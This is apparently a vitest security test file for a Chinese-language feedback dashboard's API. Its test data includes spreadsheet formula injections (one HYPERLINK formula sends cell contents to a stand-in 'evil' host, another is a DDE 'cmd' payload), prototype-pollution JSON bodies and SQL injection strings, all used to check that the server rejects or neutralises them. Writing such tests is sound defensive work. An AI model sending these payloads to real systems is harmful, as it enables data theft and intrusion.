import { makeSetupToken } from '@voc/app';
import { Workbook } from 'exceljs';
import { beforeAll, describe, expect, test } from 'vitest';
import { withDatabase } from '../support/database.ts';
import { dumpTables } from '../support/dump-tables.ts';
import { type Browser, startDashboard, type TestDashboard } from './support/dashboard.ts';
import { addPerson, enter, password } from './support/people.ts';
import { mine, storeTwoBrands } from './support/two-brands.ts';

const database = withDatabase();
const now = (): Date => new Date('2026-11-23T01:00:00Z');
const span = 'from=2026-11-16&to=2026-11-23';
let dashboard: TestDashboard;
let boss: Browser;

beforeAll(async () => {
  dashboard = await startDashboard(database.db, now);
  await storeTwoBrands(database.db);
  const token = await makeSetupToken(database.db, now());
  boss = dashboard.visit();
  await boss.send('POST', '/api/v1/setup', { token, login: 'boss', name: '王主管', password });
});

const formulas = [
  '=HYPERLINK("http://evil/?"&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  '\u00a0=1+1',
  '好评\n=cmd|x',
  '＝1+1',
];

test('a workbook of a view holds every text as text, however much like a formula it is', async () => {
  const rows = formulas.map((text, at) => [text, at]);
  const { rawPayload, headers } = await boss.send('POST', '/api/v1/workbook', {
    columns: ['=原声', '数'],
    rows,
  });
  expect(headers).toMatchObject({ 'content-disposition': 'attachment', 'x-content-type-options': 'nosniff' });
  const book = new Workbook();
  await book.xlsx.load(
    rawPayload.buffer.slice(rawPayload.byteOffset, rawPayload.byteOffset + rawPayload.length) as ArrayBuffer,
  );
  const [sheet] = book.worksheets;
  const cells = formulas.map((_, at) => sheet?.getCell(at + 2, 1));
  expect(cells.map((cell) => cell?.value)).toEqual(formulas);
  for (const cell of cells) expect([cell?.formula, cell?.numFmt]).toEqual([undefined, '@']);
  expect(sheet?.getCell(2, 2).value).toBe(0);
});

test('JSON that would change a prototype, is too deep, too long or no JSON is refused in words', async () => {
  const send = (payload: string) =>
    boss.send('POST', '/api/v1/exposures', Buffer.from(payload), { 'content-type': 'application/json' });
  const bodies = [
    '{"__proto__":{"role":"admin"},"product":"M1"}',
    '{"constructor":{"prototype":{"role":"admin"}}}',
    `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    `{"words":"${'长'.repeat(200_000)}"}`,
    '{"product":1e999}',
    '{',
    'NaN',
  ];
  for (const body of bodies) {
    const { statusCode, body: told } = await send(body);
    expect([400, 413], body.slice(0, 40)).toContain(statusCode);
    expect(told).not.toMatch(/ at |node_modules|SyntaxError/);
  }
  expect(({} as Record<string, unknown>).role).toBeUndefined();
});

test('nothing is given or set that an endpoint does not know: no raw text by a field, no right by a property', async () => {
  for (const extra of ['fields=raw', 'unmask=1', 'scope=all'])
    expect((await boss.send('GET', `/api/v1/items?${span}&${extra}`)).statusCode, extra).toBe(400);
  const user = {
    login: 'li',
    name: '李',
    role: 'agent',
    scope: { shops: null, brands: null, lines: null },
    password,
  };
  const made = await boss.send('POST', '/api/v1/users', { ...user, mayUnmask: true });
  expect(made.statusCode).toBe(400);
});

test('a fault of an input is told in Chinese: a choice, an unknown field, a length, a number', async () => {
  const told = async (query: string): Promise<string> =>
    (await boss.send('GET', `/api/v1/alerts?${query}`)).json().message;
  for (const query of ['state=gone', 'unknown=1', 'limit=0', 'limit=many'])
    expect(await told(query), query).toMatch(/^(?:\w+|请求):[\p{Script=Han}]/u);
  expect(await told('state=gone')).toContain('"acknowledged"');
});

test('words of SQL, patterns and broken cursors find nothing and break nothing', async () => {
  const evil = [
    "'; drop table items; --",
    '%',
    '_',
    '\\',
    '\u0000',
    "' or '1'='1",
    '{}',
    '1); delete from users',
  ];
  for (const words of evil) {
    const q = encodeURIComponent(words);
    for (const url of [
      `/api/v1/items?${span}&q=${q}`,
      `/api/v1/product-names?q=${q}`,
      `/api/v1/products?${span}&search=${q}`,
      `/api/v1/alerts?after=${q}&product=${q}`,
      `/api/v1/actions?after=${q}&product=${q}`,
      `/api/v1/exposures?after=${q}`,
      `/api/v1/quarantine?source=${q}&reason=${q}`,
      `/api/v1/alerts/${q}`,
      `/api/v1/actions/${q}`,
    ]) {
      const { statusCode, body } = await boss.send('GET', url);
      expect([200, 400, 404], `${url} ${body}`).toContain(statusCode);
    }
  }
  expect(
    (await boss.send('GET', `/api/v1/product-names?q=${encodeURIComponent('%')}`)).json().products,
  ).toEqual([]);
  expect(await database.db.selectFrom('items').select('item_id').execute()).toHaveLength(4);
});

test('asking changes nothing: the tables are the same after every GET', async () => {
  const dump = async () => {
    const { sessions: _, ...rest } = await dumpTables(database.db);
    return rest;
  };
  const before = await dump();
  for (const url of [
    `/api/v1/labels?${span}`,
    '/api/v1/actions',
    `/api/v1/adoption?${span}`,
    '/api/v1/exposures',
    `/api/v1/action-draft?alert=${mine.alert}`,
    `/api/v1/coverage?${span}`,
    '/api/v1/events?once=1',
    '/api/v1/held-files',
    '/api/v1/audit',
    `/api/v1/alerts/${mine.alert}`,
  ])
    expect((await boss.send('GET', url)).statusCode, url).toBe(200);
  expect(await dump()).toEqual(before);
});

describe('personal data that somebody writes', () => {
  const given = [
    '联系 13912345678',
    '138-1234-5678转801',
    '身份证 11010519491231002X',
    '卡号 6222 0212 3456 7890 128',
    '邮箱 wang@example.com',
    '加微信 wxid_abc12345',
    '车牌 粤B·D1234挂',
  ];

  test('is masked in exposures and in what was done about them', async () => {
    for (const words of given) {
      const made = await boss.send('POST', '/api/v1/exposures', {
        product: mine.product,
        kind: 'other',
        words,
      });
      expect(made.statusCode, words).toBe(200);
    }
    const { cards } = (await boss.send('GET', '/api/v1/exposures?state=raised')).json();
    const said = JSON.stringify(cards);
    for (const secret of [
      '13912345678',
      '138-1234-5678',
      '11010519491231002X',
      '6222 0212',
      'wang@example',
      'wxid_abc',
    ])
      expect(said).not.toContain(secret);
    expect(
      JSON.stringify(await database.db.selectFrom('audit_log').select('detail').execute()),
    ).not.toContain('139');
  });
});

test('a session of before the login is none after it, and one of another role ends when the role changes', async () => {
  const fixed = { cookie: '__Host-voc=chosen-by-somebody-else' };
  const answer = await dashboard.visit().send('POST', '/api/v1/login', { login: 'boss', password }, fixed);
  expect(String(answer.headers['set-cookie'])).not.toContain('chosen-by-somebody-else');
  await addPerson(database.db, 'moved', 'supervisor');
  const moved = await enter(dashboard, 'moved');
  const users = (await boss.send('GET', '/api/v1/users')).json().users as { id: string; login: string }[];
  const id = users.find(({ login }) => login === 'moved')?.id;
  const scope = { shops: null, brands: null, lines: null };
  await boss.send('PUT', `/api/v1/users/${id}`, { name: 'moved', role: 'agent', scope, disabled: false });
  expect((await moved.send('GET', '/api/v1/me')).statusCode).toBe(401);
});

test('no endpoint takes an address to call', async () => {
  const description = (await boss.send('GET', '/docs/openapi.json')).body;
  expect(description).not.toMatch(/"(?:url|uri|webhook|callback|host)"\s*:\s*\{/i);
});
